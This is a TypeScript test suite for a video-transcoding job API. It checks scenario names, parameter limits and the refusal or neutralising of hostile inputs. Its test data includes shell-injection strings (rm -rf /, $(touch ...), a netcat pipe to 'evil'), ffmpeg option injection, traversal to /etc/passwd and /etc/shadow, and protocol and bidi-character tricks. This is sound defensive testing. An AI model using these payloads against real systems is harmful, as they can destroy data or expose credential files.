import assert from 'node:assert/strict';
import { existsSync } from 'node:fs';
import type { JobView } from '../../domain/job';
import { startTestMaster, type TestMaster } from '../helpers/master';

/** Everything here must be refused at the edge with a 400 that names the field, and nothing run. */
describe('master API: scenarios, parameters and hostile inputs', function () {
  this.timeout(60_000);
  let master: TestMaster;

  before(async () => {
    master = await startTestMaster({ FFRTMP_RUN_WORKFLOWS: 'true', FFRTMP_ALLOW_URL_INPUTS: 'false', FFRTMP_BODY_LIMIT: '64kb' });
  });
  after(async () => master?.stop());

  const create = (parameters: Record<string, unknown>, extra: Record<string, unknown> = {}) =>
    master.api.post('/jobs', { scenario: '720p30-h264', parameters, ...extra });

  async function refused(parameters: Record<string, unknown>, field: RegExp, extra: Record<string, unknown> = {}) {
    const r = await create(parameters, extra);
    assert.equal(r.status, 400, `${JSON.stringify(parameters)} → ${r.status} ${r.text}`);
    assert.deepEqual(Object.keys(r.body).sort(), ['error', 'status']);
    assert.match(r.body.error, field);
  }

  it('GET /scenarios lists the presets, the grammar and each encoder\'s presets', async () => {
    const r = await master.api.get<{ grammar: string; presets: { name: string; width: number; fps: number; codec: string }[]; encoders: { name: string; presets: string[] }[] }>('/scenarios');
    assert.equal(r.status, 200);
    assert.match(r.body.grammar, /<resolution>\[<fps>\]-<codec>/);
    for (const name of ['4K60-h264', '4K30-h265', '1440p60-h264', '1080p60-h264', '1080p-h265', '720p30-h264', '480p30-av1', '1080p60-vp9']) {
      assert.ok(r.body.presets.some((p) => p.name === name), name);
    }
    const p1080 = r.body.presets.find((p) => p.name === '1080p-h265')!;
    assert.deepEqual([p1080.width, p1080.fps, p1080.codec], [1920, 30, 'h265']);
    assert.ok(r.body.encoders.find((e) => e.name === 'libx264')!.presets.includes('veryfast'));
  });

  it('scenarios: any name of the grammar is accepted; parameters override the scenario', async () => {
    const r = await create({ duration: 1, codec: 'h265', bitrate: '2500k', preset: 'fast' }, { scenario: '360p24-h264' });
    assert.equal(r.status, 201, r.text);
    await master.api.post(`/jobs/${(r.body as JobView).id}/cancel`);
    for (const bad of ['4k', '720p-h263', '720p999-h264', '1080p60', 'h264', '720p30-h264 ', '']) {
      await refused({}, /scenario/, { scenario: bad });
    }
    await refused({}, /valid forms|expected <resolution>/, { scenario: '8K60-h264' });
  });

  it('parameters are bounded and allowlisted, and an unknown one is named', async () => {
    await refused({ duration: 0 }, /parameters\.duration/);
    await refused({ duration: 1e9 }, /parameters\.duration/);
    await refused({ duration: '30' }, /parameters\.duration/);
    await refused({ bitrate: '10G' }, /parameters\.bitrate/);
    await refused({ bitrate: '10' }, /parameters\.bitrate: must be between 50k and 200M/);
    await refused({ codec: 'mpeg2video' }, /parameters\.codec: unknown codec or encoder "mpeg2video"/);
    await refused({ codec: 'h264', preset: 'ludicrous' }, /parameters\.preset: "ludicrous" is not a preset of libx264; allowed: ultrafast/);
    await refused({ codec: 'h264_nvenc', preset: 'medium' }, /not a preset of h264_nvenc; allowed: p1, p2/);
    await refused({ output_mode: 'ftp' }, /parameters\.output_mode/);
    await refused({ output_mode: 'rtmp' }, /parameters\.rtmp_url: is required/);
    await refused({ output_mode: 'rtmp', rtmp_url: 'http://example.com/live' }, /rtmp_url: must be an rtmp:\/\/ or rtmps:\/\/ URL/);
    await refused({ output_mode: 'rtmp', rtmp_url: 'rtmp://127.0.0.1/live/x', codec: 'vp9' }, /RTMP \(FLV\) carries H\.264 only/);
    await refused({ rtmp_url: 'rtmp://127.0.0.1/live/x' }, /only allowed with output_mode=rtmp/);
    await refused({ colour: 'red' }, /unknown field: parameters\.colour/);
  });

  it('shell syntax in a name is only a name: accepted, and never reaches a shell (no ASCII allowlist)', async () => {
    // unicode-inputs.test.ts encodes such names for real and checks nothing ran
    for (const params of [{ input: 'clip.mp4; rm -rf /' }, { input: '$(touch /tmp/ffrtmp-pwned)' }, { input: '`id`.mp4' }, { input: 'a.mp4 | nc evil 1' }, { input: 'ok dir/my clip ü 日本 & ! (1).mp4' }, { output_mode: 'rtmp', rtmp_url: 'rtmp://127.0.0.1/live/x;reboot?a=1&b=2' }]) {
      const r = await create({ duration: 1, ...params });
      assert.equal(r.status, 201, `${JSON.stringify(params)} → ${r.status} ${r.text}`);
      await master.api.post(`/jobs/${(r.body as JobView).id}/cancel`);
    }
  });

  it('option-like values, control and bidi characters, escapes, outside paths and protocols are refused', async () => {
    const hostile: [Record<string, unknown>, RegExp][] = [
      [{ input: '-filter_complex [0]null' }, /parameters\.input: must not start with "-"/],
      [{ input: '-i /etc/passwd' }, /must not start with "-"/],
      [{ codec: '-c:v copy' }, /parameters\.codec: must not start with "-"/],
      [{ preset: '-vf' }, /parameters\.preset: must not start with "-"/],
      [{ output_mode: 'rtmp', rtmp_url: '-f flv rtmp://x/y' }, /parameters\.rtmp_url: must not start with "-"/],
      [{ output_mode: 'rtmp', rtmp_url: 'rtmp://127.0.0.1/live/x\u202e' }, /parameters\.rtmp_url: must not contain bidirectional override or isolate characters \(U\+202E\)/],
      [{ input: '../../etc/passwd' }, /parameters\.input: path must be inside the media root/],
      [{ input: 'clips/../../../etc/shadow' }, /path must be inside the media root/],
      [{ input: '/etc/passwd' }, /path must be inside the media root/],
      [{ input: 'file:/etc/passwd' }, /protocol "file:" is not allowed/],
      [{ input: 'concat:/a.mp4|/b.mp4' }, /not allowed/],
      [{ input: 'pipe:0' }, /protocol "pipe:" is not allowed/],
      [{ input: 'subfile:,,start,0,end,0,,:/etc/passwd' }, /not allowed/],
      [{ input: 'http://127.0.0.1/video.mp4' }, /URL inputs are disabled/],
      [{ input: 'a\u0000b' }, /control characters/],
      [{ input: 'a\nb' }, /control characters/],
      [{ input: 'a\u0085b' }, /parameters\.input: must not contain control characters \(U\+0085\)/],
      [{ input: 'clip\u202egnp.mp4' }, /parameters\.input: must not contain bidirectional override or isolate characters \(U\+202E\)/],
    ];
    for (const [params, pattern] of hostile) await refused(params, pattern);
    assert.equal(existsSync('/tmp/ffrtmp-pwned'), false);
  });

  it('absurd values are refused without harm: a 10 MB string, huge numbers, deep and wide bodies', async () => {
    const big = await master.api.request('POST', '/jobs', { raw: JSON.stringify({ scenario: '720p30-h264', parameters: { input: 'x'.repeat(10 * 1024 * 1024) } }), headers: { 'Content-Type': 'application/json' } });
    assert.equal(big.status, 413);
    assert.equal(big.body.status, 413);
    await refused({ duration: Number.MAX_VALUE }, /parameters\.duration/);
    await refused({ input: 'x'.repeat(5000) }, /parameters\.input/);
    await refused({ max_retries: 1e9 }, /parameters\.max_retries/);
    await refused({ timeout: -1 }, /parameters\.timeout/);
    // the master is still fine
    assert.equal((await master.api.get('/health', { key: null })).status, 200);
  });
});
